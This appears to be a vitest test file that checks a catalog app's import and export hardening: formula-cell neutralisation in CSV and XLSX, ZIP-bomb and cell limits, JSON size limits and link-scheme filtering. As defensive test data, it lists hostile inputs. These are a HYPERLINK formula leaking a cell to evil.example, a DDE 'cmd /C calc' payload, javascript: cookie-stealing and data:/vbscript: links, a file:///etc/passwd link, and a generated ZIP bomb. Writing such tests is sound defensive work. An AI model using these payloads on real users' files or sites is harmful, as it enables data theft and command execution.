import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/catalog/transfer/csv.js';
import { COLUMNS } from '../../src/catalog/transfer/spreadsheet.js';
import { startTestApp, type TestApp, type TestUser } from '../helpers/app.js';
import { part, xlsxBomb, zipArchive } from '../helpers/zip.js';

/**
 * Hardening of import and export: formula cells neutralised on export and restored on import,
 * XLSX inflation and cell limits (set low here through the settings), the size of free JSON
 * and the schemes of links, on the API and on every import format.
 */

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** Text a spreadsheet program would run as a formula, and text that must stay as it is. */
const TEXTS: Record<string, string> = {
  equals: '=HYPERLINK("https://evil.example/?"&A1,"open")',
  plus: '+1+cmd|" /C calc"!A0',
  minus: '-2+3',
  at: '@SUM(1,2)',
  tab: '\t=1+2',
  cr: '\r=1+2',
  quote: "'=1+2 was already quoted",
  plain: 'plain text, with a comma',
};

let t: TestApp;
let admin: TestUser;

beforeAll(async () => {
  t = await startTestApp({ importMaxInflatedMb: 16, importMaxCells: 10_000 });
  admin = await t.user('root', { admin: true });
}, 120_000);
afterAll(async () => {
  await t?.close();
});

const importFile = (format: string, type: string, payload: string | Buffer) =>
  t.request(admin, {
    method: 'POST',
    url: `/api/import/${format}`,
    headers: { 'content-type': type },
    payload,
  });
const importArgus = (doc: object) =>
  importFile(
    'argus',
    'application/json',
    JSON.stringify({ format: 'argus', version: 1, exportedAt: '', ...doc }),
  );
const exportAs = async (format: 'csv' | 'xlsx' | 'argus') => {
  const res = await t.request(admin, { method: 'GET', url: `/api/export/${format}` });
  expect(res.statusCode).toBe(200);
  return res;
};
const catalog = async () => (await exportAs('argus')).json();
const descriptions = async () =>
  Object.fromEntries(
    (await catalog()).components
      .filter((c: { name: string }) => c.name.startsWith('text-'))
      .map((c: { name: string; description: string }) => [c.name.slice(5), c.description]),
  );
const setDescriptions = (text: (key: string) => string) =>
  importArgus({
    components: Object.keys(TEXTS).map((key) => ({ name: `text-${key}`, description: text(key) })),
  });

/** A 400 problem+json; its problems. */
function refused(res: { statusCode: number; headers: Record<string, unknown>; body: string }) {
  expect(res.statusCode, res.body).toBe(400);
  expect(res.headers['content-type']).toContain('application/problem+json');
  return JSON.parse(res.body) as { code: string; problems: { field: string; reason: string }[] };
}

describe('formula cells on export and import', () => {
  beforeAll(async () => {
    const res = await setDescriptions((key) => TEXTS[key]!);
    expect(res.statusCode, res.body).toBe(201);
  });

  it('CSV: each cell that would run is exported behind a quote and imported as it was', async () => {
    const csv = (await exportAs('csv')).body;
    const column = COLUMNS.indexOf('Description');
    const exported = Object.fromEntries(
      parseCsv(csv)
        .slice(1)
        .map((r) => [r.fields[0]!.slice(5), r.fields[column]]),
    );
    for (const [key, text] of Object.entries(TEXTS))
      expect(exported[key], key).toBe(key === 'plain' ? text : `'${text}`);
    // The raw file shows it too.
    expect(csv).toContain(`,'-2+3,`);
    expect(csv).toContain(`,"'=HYPERLINK(`);

    expect((await setDescriptions(() => 'overwritten')).statusCode).toBe(201);
    const res = await importFile('spreadsheet', 'text/csv', csv);
    expect(res.statusCode, res.body).toBe(201);
    expect(await descriptions()).toEqual(TEXTS);
  });

  it('XLSX: the same, read back by another XLSX reader and by the import', async () => {
    const xlsx = (await exportAs('xlsx')).rawPayload;
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    const column = COLUMNS.indexOf('Description') + 1;
    const exported: Record<string, unknown> = {};
    sheet.eachRow((row, n) => {
      if (n > 1) exported[String(row.getCell(1).value).slice(5)] = row.getCell(column).value;
    });
    // An XML parser reads a carriage return as a line feed (XML 1.0, 2.11).
    for (const [key, text] of Object.entries(TEXTS))
      expect(exported[key], key).toBe((key === 'plain' ? text : `'${text}`).replace('\r', '\n'));

    expect((await setDescriptions(() => 'overwritten')).statusCode).toBe(201);
    const res = await importFile('spreadsheet', XLSX, xlsx);
    expect(res.statusCode, res.body).toBe(201);
    expect(await descriptions()).toEqual(TEXTS);
  });
});

describe('spreadsheet limits', () => {
  it('refuses a ZIP bomb at the inflation limit, without inflating the rest', async () => {
    // 300 MB of sheet in a file of about 300 KB; the setting allows 16 MB.
    const bomb = await xlsxBomb(300);
    expect(bomb.length).toBeLessThan(400 * 1024);
    const before = await catalog();
    const rss = process.memoryUsage().rss;
    const res = await importFile('xlsx', XLSX, bomb);
    const grown = process.memoryUsage().rss - rss;
    const body = refused(res);
    expect(body.code).toBe('ARGUS_TRANSFER_INVALID');
    expect(body.problems).toEqual([
      {
        field: 'xl/worksheets/sheet1.xml',
        reason: expect.stringMatching(/more than 16\.0 MB.*ARGUS_IMPORT_MAX_INFLATED_MB/),
      },
    ]);
    // Inflating all of it would take 300 MB and more (the bytes, then the text).
    expect(grown).toBeLessThan(150 * 1024 * 1024);
    const { exportedAt: _a, ...a } = before;
    const { exportedAt: _b, ...b } = await catalog();
    expect(b).toEqual(a);
  }, 120_000);

  it('refuses more cells than the setting allows, in CSV and XLSX, naming the row', async () => {
    const csv = `Name,Description\n${Array.from({ length: 6000 }, (_, i) => `c${i},x`).join('\n')}`;
    const many = refused(await importFile('spreadsheet', 'text/csv', csv));
    expect(many.problems).toEqual([
      { field: 'rows[5001]', reason: expect.stringMatching(/more than 10,000 cells.*MAX_CELLS/) },
    ]);

    // One cell in the last column makes a row of 16,384 cells.
    const wide = zipArchive([
      part(
        'xl/worksheets/sheet1.xml',
        '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row>' +
          '<row r="2"><c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>',
      ),
    ]);
    const body = refused(await importFile('xlsx', XLSX, wide));
    expect(body.problems).toEqual([
      {
        field: 'rows[2]',
        reason: expect.stringContaining('blank cells between filled ones count'),
      },
    ]);
  });
});

describe('free JSON', () => {
  const big = { notes: 'x'.repeat(70_000) };
  // Each value within its own limit (2,000 characters), 80 KB together.
  const labels = Object.fromEntries(
    Array.from({ length: 40 }, (_, i) => [`k${i}`, 'v'.repeat(2000)]),
  );

  it('refuses attributes, labels and list extras over 64 KB on the API', async () => {
    const create = (body: object) =>
      t.request(admin, { method: 'POST', url: '/api/components', payload: body });
    const attrs = refused(await create({ name: 'json-big', attributes: big }));
    expect(attrs.problems).toEqual([
      { field: 'attributes', reason: expect.stringContaining('more than the limit of 65,536') },
    ]);
    expect(refused(await create({ name: 'json-big', labels })).problems[0]!.field).toBe('labels');
    const extra = refused(
      await t.request(admin, {
        method: 'POST',
        url: '/api/reference/vendors',
        payload: { name: 'Big', extra: big },
      }),
    );
    expect(extra.problems[0]!.field).toBe('extra');
    const fits = await create({ name: 'json-fits', attributes: { notes: 'x'.repeat(60_000) } });
    expect(fits.statusCode, fits.body).toBe(201);
  });

  it('refuses them in an import, by path, and writes nothing', async () => {
    const res = refused(
      await importArgus({
        components: [
          { name: 'json-import', attributes: big },
          { name: 'json-import-2', annotations: labels },
        ],
      }),
    );
    expect(res.problems.map((p) => p.field)).toEqual([
      'components[0].attributes',
      'components[1].annotations',
    ]);
    const names = (await catalog()).components.map((c: { name: string }) => c.name);
    expect(names).not.toContain('json-import');
  });
});

describe('link schemes', () => {
  const HOSTILE = [
    'javascript:alert(document.cookie)',
    ' JavaScript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'java\tscript:alert(1)',
  ];
  const FINE = ['https://git.example.com/a', 'http://intranet/wiki', 'mailto:team@example.com'];

  it('the API accepts http, https and mailto links and refuses the rest, by field', async () => {
    const create = (name: string, url: string) =>
      t.request(admin, {
        method: 'POST',
        url: '/api/components',
        payload: { name, links: [{ url, title: 'x' }] },
      });
    for (const [i, url] of HOSTILE.entries()) {
      const body = refused(await create(`link-bad-${i}`, url));
      expect(
        body.problems.map((p) => p.field),
        url,
      ).toEqual(['links.0.url']);
    }
    expect(refused(await create('link-bad', 'javascript:x')).problems[0]!.reason).toContain(
      '"javascript:" links are not allowed',
    );
    for (const [i, url] of FINE.entries()) {
      const res = await create(`link-ok-${i}`, url);
      expect(res.statusCode, res.body).toBe(201);
    }

    const version = (devLinks: object) =>
      t.request(admin, {
        method: 'POST',
        url: '/api/components/default/link-ok-0/versions',
        payload: { version: '1.0', devLinks },
      });
    const bad = refused(await version({ repository: 'data:text/html,x', docs: 'https://ok' }));
    expect(bad.problems.map((p) => p.field)).toEqual(['devLinks.repository']);
    const ok = await version({ repository: 'https://git.example.com/a', docs: '' });
    expect(ok.statusCode, ok.body).toBe(201);
  });

  it('every import refuses them with the row, path or file line, and writes nothing', async () => {
    const before = await catalog();
    const argus = refused(
      await importArgus({
        components: [{ name: 'imp', links: [{ url: 'javascript:alert(1)' }] }],
        versions: [{ component: 'imp', version: '1', devLinks: { docs: 'data:,x' } }],
        radar: {
          quadrants: [{ name: 'Q' }],
          rings: [{ name: 'R' }],
          entries: [{ label: 'E', quadrant: 'Q', link: 'vbscript:x' }],
        },
      }),
    );
    expect(argus.problems.map((p) => p.field)).toEqual([
      'components[0].links[0].url',
      'versions[0].devLinks.docs',
      'radar.entries[0].link',
    ]);

    const csv = refused(
      await importFile(
        'spreadsheet',
        'text/csv',
        'Name,Version,Repo,Docs\nimp,1.0,javascript:alert(1),https://docs.example.com\n',
      ),
    );
    expect(csv.problems).toEqual([
      { field: 'rows[2].Repo', reason: expect.stringContaining('"javascript:" links') },
    ]);

    const yaml = [
      'apiVersion: backstage.io/v1alpha1',
      'kind: Component',
      'metadata:',
      '  name: imp',
      '  links:',
      '    - url: https://fine.example.com',
      '    - url: javascript:alert(1)',
      'spec:',
      '  type: service',
      '  lifecycle: production',
    ].join('\n');
    const backstage = refused(await importFile('backstage', 'application/yaml', yaml));
    expect(backstage.problems).toEqual([
      {
        field: expect.stringMatching(/:7 metadata\.links\.1\.url$/),
        reason: expect.stringContaining('"javascript:" links'),
      },
    ]);
    const { exportedAt: _a, ...a } = before;
    const { exportedAt: _b, ...b } = await catalog();
    expect(b).toEqual(a);
  });
});
